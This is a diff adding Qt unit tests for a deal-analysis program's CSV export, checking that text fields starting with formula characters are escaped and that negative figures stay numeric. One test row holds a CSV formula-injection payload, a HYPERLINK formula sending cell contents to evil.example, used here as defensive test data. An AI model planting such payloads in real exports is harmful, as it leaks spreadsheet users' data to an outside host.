@@ -243,6 +243,59 @@ private slots:
         QCOMPARE(FormatMeasure(one.debtServiceCoverage, MeasureUnit::Ratio), QStringLiteral("1.38"));
     }
 
+    // A text of the deal that a spreadsheet would run as a formula comes out as plain text, in
+    // every CSV and every column that carries one: the file's name, the description, the lender.
+    void csvTextsNeverRunAsFormulas_data()
+    {
+        QTest::addColumn<QString>("text");
+        QTest::addColumn<QString>("cell");
+        QTest::newRow("sum") << "=2+2" << "'=2+2";
+        QTest::newRow("at") << "@SUM(A1:A2)" << "'@SUM(A1:A2)";
+        QTest::newRow("plus") << "+4" << "'+4";
+        QTest::newRow("minus") << "-2+3" << "'-2+3";
+        QTest::newRow("spaces before") << "  =1+1" << "'  =1+1";
+        QTest::newRow("link") << "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")"
+                              << "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Click\")";
+        QTest::newRow("equals inside") << "Harbor = Bank" << "Harbor = Bank";
+        QTest::newRow("plain") << "Harbor Bank" << "Harbor Bank";
+    }
+    void csvTextsNeverRunAsFormulas()
+    {
+        QFETCH(QString, text);
+        QFETCH(QString, cell);
+        CDealRecord record = FiveLoans();
+        record.m_strLender[1] = text;
+        record.m_strDescription = text;
+        const CDealAnalysis deal = Analyze(record);
+
+        const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
+        QCOMPARE(comparison.at(1).at(2), cell);
+        const QList<QStringList> many = ParseCsv(AnalysisExport::DealsCsvHeader()
+                                                 + AnalysisExport::DealCsvLines(text + ".zant", record, deal));
+        const QStringList &second = many.at(2);
+        QCOMPARE(second.at(many.at(0).indexOf("file")), cell + ".zant");
+        QCOMPARE(second.at(many.at(0).indexOf("description")), cell);
+        QCOMPARE(second.at(many.at(0).indexOf("lender")), cell);
+    }
+
+    // Figures the program writes stay numbers, a loss with its minus sign.
+    void csvNegativeFiguresStayNumbers()
+    {
+        CDealRecord record = FiveLoans();
+        record.m_interestRate[1].m_value = 20;
+        const CDealAnalysis deal = Analyze(record);
+        QVERIFY(deal.loans[1].safetyCashFlow.value < 0);
+        const QString expected = QString::number(deal.loans[1].safetyCashFlow.value, 'f', 2);
+        const QList<QStringList> many = ParseCsv(AnalysisExport::DealsCsvHeader()
+                                                 + AnalysisExport::DealCsvLines("deal.zant", record, deal));
+        QCOMPARE(many.at(2).at(many.at(0).indexOf("safety_cash_flow")), expected);
+        const QList<QStringList> comparison = ParseCsv(AnalysisExport::ComparisonCsv(record, deal));
+        bool found = false;
+        for (const QStringList &line : comparison)
+            found = found || (line.constFirst() == "Safety Cash Flow" && line.at(2) == expected);
+        QVERIFY(found);
+    }
+
     // The CSV read back by a CSV reader gives the texts and plain numbers, in any locale; the
     // JSON read back gives numbers and null.
     void filesReadBack()
